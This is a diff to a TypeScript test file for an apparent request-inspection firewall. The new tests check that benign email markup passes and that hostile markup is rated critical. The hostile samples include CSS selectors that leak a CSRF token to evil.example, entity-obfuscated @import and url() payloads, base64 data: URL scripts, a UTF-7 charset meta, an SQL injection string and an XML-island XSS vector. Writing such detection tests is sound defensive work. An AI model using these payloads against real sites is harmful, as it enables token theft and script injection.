@@ -636,6 +636,41 @@ describe('everyday content a false-positive hunt found blocked', () => {
     ])
       assert.equal(worst(v), 'critical', v);
   });
+  test('an MJML or Foundation email: layout attribute selectors, the Content-Type meta, a relative stylesheet', () => {
+    const email = [
+      '<!doctype html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">',
+      '<link rel="stylesheet" href="../assets/css/foundation-emails.css">',
+      '<!--[if !mso]><!--><link href="https://fonts.googleapis.com/css?family=Ubuntu" rel="stylesheet" type="text/css">',
+      '<style type="text/css">@import url(https://fonts.googleapis.com/css?family=Ubuntu:300,400);</style><!--<![endif]-->',
+      '<style>.mj-accordion-checkbox[type="checkbox"] + * .mj-accordion-title { cursor:pointer; } [owa] .col { width:100% }</style>',
+      '</head><body><p>See <a href="datatype.html">the data types</a>.</p></body></html>',
+    ].join('\n');
+    assert.equal(worst(email), 'lower');
+    // Mailgun takes it as a form field beside namespaced options (`o:tracking`), the form read pair by pair.
+    const form = `from=a%40example.com&html=${encodeURIComponent(email)}&o%3Atracking=yes`;
+    assert.ok(!inspector.inspect(post(form, 'application/x-www-form-urlencoded')).some((f) => f.severity === 'critical'));
+  });
+  test('the same markup that loads per selector, a stray bracket, an entity in a style, a data: URL, still blocks', () => {
+    for (const v of [
+      '<style>input[name=csrf][value^=a]{background:url(https://evil.example/a)}</style>',
+      '<div id="x">x</div><style>#x{font-family:foo[bar;color:green;} #y];color:red;{}</style>',
+      '<svg><style>&#64;import "https://evil.example/x.css";</style></svg>',
+      '<svg><style>input[value^=a]{background:&#117;rl(https://evil.example/a)}</style></svg>',
+      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+      '<a href="data&colon;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+      '<link rel="stylesheet" href="//evil.example/a.css">',
+      '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
+    ])
+      assert.equal(worst(v), 'critical', v);
+  });
+  test("code escaped in a post's HTML is text to libinjection's XSS check, and still SQL to its SQLi check", () => {
+    assert.equal(worst('<p>Use <code>&lt;object&gt;</code> and <code>&lt;base&gt;</code> with care.</p>'), 'lower');
+    // An application that decodes entities before its SQL runs this: the tag in front must not hide it.
+    const sqli = inspector.inspect(json('<i>a</i>admin&#39;--')).map((f) => `${f.ruleId}:${f.severity}`);
+    assert.ok(sqli.includes('sqli.libinjection:critical'), sqli.join(' '));
+    // IE's XML data islands rendered escaped markup.
+    assert.equal(worst('<XML ID=0><B>&lt;IMG SRC="javas<!-- -->cript:alert(1)"&gt;</B></XML>'), 'critical');
+  });
   test("a user's login shell is a setting (medium); elsewhere, or run with arguments, it blocks", () => {
     const sev = (body: object) =>
       inspector.inspect(post(JSON.stringify(body), 'application/json')).filter((f) => f.severity === 'critical');
